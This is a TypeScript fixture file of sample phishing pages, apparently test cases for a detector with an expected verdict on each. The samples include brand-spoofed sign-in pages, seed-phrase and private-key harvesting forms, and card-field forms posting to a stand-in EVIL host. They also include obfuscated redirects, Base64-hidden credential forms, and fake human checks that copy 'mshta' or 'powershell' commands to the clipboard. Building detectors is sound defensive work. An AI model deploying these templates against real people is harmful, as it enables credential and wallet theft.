/** Pages that show themselves as somebody else, ask for what opens a wallet or an account, or hide what they are. */
import { EVIL, page, script, type Shape, signIn } from "./shape.ts";

const borrowed = (name: string, html: string): Shape => page(name, html, "borrowed_brand");

export const BRANDS: readonly Shape[] = [
  borrowed("the brand alone as the title", signIn("Netflix")),
  borrowed("the brand and one word", signIn("Microsoft Online - Sign in")),
  borrowed("the brand behind a bar", signIn("Log in | Coinbase")),
  borrowed("sign in to the brand", signIn("Sign in to your Amazon today")),
  borrowed("the brand's account", signIn("Please confirm your Apple account details now")),
  borrowed("the brand in letters that look alike", signIn("Ρаураl – Log in")),
  borrowed("its logo by its alternative text", signIn("Sign in", `<img src="l.svg" alt="Microsoft logo">`)),
  borrowed("its logo drawn", signIn("Sign in", `<svg><title>DHL</title><path d="M0 0"/></svg>`)),
  borrowed(
    "its logo from its own host",
    signIn("Sign in", `<img src="https://aadcdn.msftauth.net/shared/1.0/logo.svg">`),
  ),
  borrowed(
    "its icon",
    `<link rel="icon" href="https://www.paypalobjects.com/webstatic/icon/pp32.png">${signIn("Sign in")}`,
  ),
  page("its logo as a file without a name", signIn("Sign in to view the document", `<img src="logo.png">`), "pass"),
  page("a brand that is on no list", signIn("First Harbour Credit Union | Online banking"), "pass"),
];

const words = (count: number): string =>
  Array.from({ length: count }, (_, i) => `<label>${i + 1} <input type="text" name="w${i}"></label>`).join("");

export const WALLETS: readonly Shape[] = [
  page(
    "12 words",
    `<title>Wallet</title><h1>Import your wallet</h1><p>Enter your recovery phrase</p>${words(12)}`,
    "recovery_phrase",
  ),
  page("24 words", `<title>Ledger</title><p>Type your 24-word seed phrase</p>${words(24)}`, "recovery_phrase"),
  page(
    "a text area",
    `<title>Validate</title><p>Secret recovery phrase</p><textarea rows="3"></textarea>`,
    "recovery_phrase",
  ),
  page(
    "a private key",
    `<title>Connect wallet</title><input placeholder="Private key"><button>Connect</button>`,
    "wallet_key",
  ),
  page(
    "a keystore",
    `<title>dApp</title><h2>Synchronise your wallet</h2><textarea name="keystore_json"></textarea>`,
    "wallet_key",
  ),
  page(
    "a key under dots",
    `<title>Airdrop</title><p>MetaMask</p><input type="password" name="privateKey">`,
    "wallet_key",
  ),
  page(
    "words that a script makes fields for",
    `<title>Wallet</title><p>Recovery phrase</p><div id="w"></div>${script("make(12)")}`,
    "pass",
  ),
];

export const CARDS: readonly Shape[] = [
  page(
    "a fee for a parcel",
    `<title>Parcel</title><form><input autocomplete="cc-number"><input autocomplete="cc-csc"></form>`,
    "card_fields",
  ),
  page(
    "card fields by their labels",
    `<title>Fine</title><label>Card number <input></label><label>CVV <input></label>`,
    "card_fields",
  ),
  page(
    "a card for another domain",
    `<title>Pay</title><form action="${EVIL}"><input name="card_number"><input name="cvc"></form>`,
    "abuse_rejected",
  ),
];

const leads = (name: string, html: string): Shape => page(name, `<title>Please wait</title>${html}`, "fast_redirect");

export const REDIRECTS: readonly Shape[] = [
  leads("a refresh", `<meta http-equiv="refresh" content="2;url=${EVIL}">`),
  leads("a script's statement", script(`window.location.replace("${EVIL}"+location.hash)`)),
  leads("a timer", script(`setTimeout(()=>{window.location.href="${EVIL}"},1500)`)),
  leads("a function that is called at load", script(`function go(){top.location="${EVIL}"}window.onload=go`)),
  leads("an event attribute of the body", `<body onload="location.href='${EVIL}'">`),
  leads("a picture that is not there", `<img src="x" onerror="location='${EVIL}'">`),
  leads("an address in Base64", script(`const t="${btoa(EVIL)}";location.href=atob(t)`)),
  leads("names in brackets and pieces", script(`window["loca"+"tion"]["href"]="https:"+"//collect.example/"`)),
  leads("code in a string", script(`eval(atob("${btoa(`location="${EVIL}"`)}"))`)),
  {
    name: "a drawing",
    files: {
      "invoice.svg": `<svg xmlns="http://www.w3.org/2000/svg"><script><![CDATA[location="${EVIL}"]]></script></svg>`,
    },
    verdict: "fast_redirect",
  },
  page("an answer that decides", `<title>Wait</title>${script(`fetch("/c").then(()=>location="${EVIL}")`)}`, "pass"),
  page("a link that clicks itself", `<title>Wait</title><a id="a" href="${EVIL}">x</a>${script("a.click()")}`, "pass"),
];

const form = `<form action="${EVIL}"><input name="u"><input type="password" name="p"></form><p>${"Sign in ".repeat(60)}</p>`;
const harmless = `<h1>Document</h1><p>${"You were sent a file. ".repeat(30)}</p><button>Open</button>`;
const hidden = (name: string, code: string, verdict = "abuse_rejected"): Shape =>
  page(name, `<title>x</title>${script(code)}`, verdict);

export const HIDDEN: readonly Shape[] = [
  hidden("a page in Base64", `document.write(atob("${btoa(form)}"))`),
  hidden("a page in escapes", `document.write(unescape("${escape(form)}"))`),
  hidden(
    "a page in URI escapes",
    `const p=decodeURIComponent("${encodeURIComponent(form)}");document.body.innerHTML=p`,
  ),
  hidden("a page by a name", `var b="${btoa(form)}";document.body.innerHTML=atob(b)`),
  hidden("Base64 in Base64", `document.write(atob(atob("${btoa(btoa(form))}")))`),
  page("an event attribute", `<title>x</title><body onload="document.write(atob('${btoa(form)}'))">`, "abuse_rejected"),
  hidden("a page without a form of its own", `document.write(atob("${btoa(harmless)}"))`, "hidden_page"),
  hidden("a page in hex", `document.body.innerHTML=hex("${Buffer.from(harmless).toString("hex")}")`, "hidden_page"),
  hidden(
    "a page in a blob",
    `open(URL.createObjectURL(new Blob([dec("${btoa(harmless.repeat(2))}")])))`,
    "hidden_page",
  ),
  page(
    "code that is hidden, and no menu",
    `<title>x</title><body oncontextmenu="return false">${script(`eval(atob("${btoa("init()")}"))`)}`,
    "hidden_code",
  ),
  hidden("numbers", `document.write(String.fromCharCode(${[...form].map((c) => c.charCodeAt(0)).join(",")}))`, "pass"),
];

const copies = (text: string): string => script(`b.onclick=()=>navigator.clipboard.writeText(${JSON.stringify(text)})`);

export const COMMANDS: readonly Shape[] = [
  page(
    "a check for humans",
    `<title>One moment</title><p>Verify you are human</p><button id="b">OK</button>${copies("mshta x")}`,
    "fake_human_check",
  ),
  page(
    "keys to press",
    `<title>Update</title><ol><li>Press <kbd>Win</kbd> + <kbd>R</kbd><li>Press <kbd>Ctrl</kbd> + <kbd>V</kbd></ol><button id="b">Fix</button>${copies("powershell x")}`,
    "pasted_command",
  ),
  page(
    "a program of another host",
    `<title>Viewer</title><p>Your viewer is old.</p><a href="https://files.example/viewer.exe">Update</a>`,
    "program_download",
  ),
  page(
    "a program under another name",
    `<title>Invoice</title><a href="d/1" download="Invoice.lnk">Open</a>`,
    "program_download",
  ),
  page(
    "a program that the page builds",
    `<title>Invoice</title>${script(`a.href=URL.createObjectURL(new Blob([x]));a.download="Invoice.iso"`)}`,
    "built_program",
  ),
  {
    name: "a program beside the page",
    files: { "index.html": "<title>Fax</title>", "Fax.hta": "x" },
    verdict: "program_download",
  },
];
